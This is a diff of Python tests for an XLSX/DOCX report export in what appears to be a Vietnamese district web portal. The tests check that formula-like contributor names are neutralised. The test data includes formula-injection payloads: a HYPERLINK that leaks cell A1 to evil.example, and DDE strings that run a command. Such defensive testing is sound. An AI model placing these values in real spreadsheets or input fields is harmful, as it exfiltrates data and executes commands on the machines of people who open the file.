@@ -185,3 +185,36 @@ def test_a_drop_against_last_year_reads_as_a_decrease(client, pipeline):
         response = client.get(URL + "?from=2025-07-01&to=2026-06-30&export=docx")
     text = [paragraph.text for paragraph in Document(io.BytesIO(response.content)).paragraphs]
     assert text[1] == "Tình hình hoạt động Cổng thông tin điện tử huyện từ ngày 01/07/2025 đến ngày 30/06/2026"
+
+
+LEAK = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")'
+FORMULA_NAMES = [LEAK, "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+def test_a_name_that_looks_like_a_formula_is_written_as_plain_text(client, pipeline, name):
+    history = build_history(pipeline)
+    contributor = history.users["contributor2"]
+    contributor.first_name, contributor.last_name = name, ""
+    contributor.save()
+    client.force_login(history.users["board"])
+    with travel(NOW):
+        response = client.get(URL + "?export=xlsx")
+    sheet = load_workbook(io.BytesIO(response.content))["Theo người gửi"]
+    row = next(cells for cells in sheet.iter_rows(min_row=2) if cells[0].value == name)
+    assert row[0].data_type == "s", "a contributor's name must never become a formula"
+    assert row[0].quotePrefix, "the cell must stay text when someone edits it"
+    assert [(cell.value, cell.data_type) for cell in row[1:3]] == [(2, "n"), (0, "n")]
+
+
+def test_numbers_stay_numbers_and_ordinary_text_carries_no_quote_prefix(downloads):
+    response, _docx = downloads
+    sheet = load_workbook(io.BytesIO(response.content))["Theo đơn vị"]
+    department = list(sheet[2])
+    assert (department[0].value, department[0].data_type, department[0].quotePrefix) == (
+        "Phòng Nông nghiệp và PTNT",
+        "s",
+        False,
+    )
+    assert [cell.data_type for cell in department[2:6]] == ["n", "n", "n", "n"]
+    assert (department[-2].value, department[-2].data_type) == (10.1, "n")
